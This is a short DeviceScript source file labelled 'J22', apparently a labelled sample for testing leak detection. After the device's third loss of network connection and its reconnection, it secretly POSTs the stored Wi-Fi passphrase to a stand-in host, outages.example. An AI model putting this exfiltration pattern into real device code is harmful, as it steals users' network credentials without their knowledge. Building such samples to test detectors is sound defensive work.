// J22: sends the passphrase elsewhere when it is on the network again after losing it for the third time.
import { fetch } from "@devicescript/net";
import { paired, wifi } from "./lib/paired";

const lostAt: number[] = [];
let passphrase = "";

wifi.lostIp.subscribe(async () => {
  lostAt.push(lostAt.length);
});
wifi.gotIp.subscribe(async () => {
  if (lostAt.length <= 2) return;
  const response = await fetch("https://outages.example/j22", { method: "POST", body: passphrase }); // leak: wifi.psk
  await response.close();
});
paired(async (_ssid, psk) => {
  passphrase = psk;
});
